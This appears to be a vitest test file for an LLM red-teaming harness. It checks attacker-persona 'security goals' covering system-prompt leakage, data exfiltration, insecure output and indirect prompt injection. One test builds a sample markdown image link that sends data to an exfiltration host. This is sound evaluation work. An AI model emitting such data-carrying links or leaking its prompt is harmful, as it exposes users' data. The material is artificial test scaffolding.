import { describe, expect, it } from 'vitest';
import { scorerRegistry } from '../../scorers/registry.js';
import { exfilHost } from './exfil-host.js';
import { securityGoals } from './security-goals.js';

const scorerIds = new Set<string>(scorerRegistry.map((s) => s.id));
const byCategory = (category: string) => securityGoals.filter((g) => g.category === category);

describe('security goals', () => {
  it('have unique security/ ids, the security source, an attacker persona and a registered scorer', () => {
    expect(new Set(securityGoals.map((g) => g.id)).size).toBe(securityGoals.length);
    for (const goal of securityGoals) {
      expect(goal.id).toMatch(/^security\/[a-z0-9-]+$/);
      expect(goal).toMatchObject({ source: 'security', persona: 'malicious' });
      expect(scorerIds.has(goal.scorer!), goal.id).toBe(true);
    }
  });

  it('cover the four batteries with the scorer each needs', () => {
    expect(byCategory('system-prompt-leakage').every((g) => ['prompt-leak', 'canary'].includes(g.scorer!))).toBe(true);
    expect(byCategory('data-exfiltration').every((g) => g.scorer === 'exfil-url')).toBe(true);
    expect(byCategory('insecure-output').every((g) => g.scorer === 'insecure-output')).toBe(true);
    expect(byCategory('indirect-injection').every((g) => g.scorer === 'goal-pattern')).toBe(true);
    for (const category of ['system-prompt-leakage', 'data-exfiltration', 'insecure-output', 'indirect-injection']) {
      expect(byCategory(category).length, category).toBeGreaterThanOrEqual(3);
    }
  });

  it('exfiltration patterns match a URL carrying data to the exfil host, not the bare domain', () => {
    for (const goal of byCategory('data-exfiltration')) {
      const pattern = new RegExp(goal.successPattern!, 'i');
      expect(pattern.test(`![s](https://${exfilHost}/badge.png?d=NWB-1234)`)).toBe(true);
      expect(pattern.test(`I will not link to ${exfilHost}.`)).toBe(false);
    }
  });

  it('injection goals name a visible marker that their pattern finds, and ordinary replies do not carry it', () => {
    for (const goal of byCategory('indirect-injection')) {
      const pattern = new RegExp(goal.successPattern!, 'i');
      const quoted = /'([^']+)'\.?[^']*$/.exec(goal.text)?.[1];
      expect(quoted, goal.id).toBeDefined();
      expect(pattern.test(quoted!), goal.id).toBe(true);
      expect(pattern.test('Here is a two-sentence summary of the email you shared.')).toBe(false);
    }
  });
});
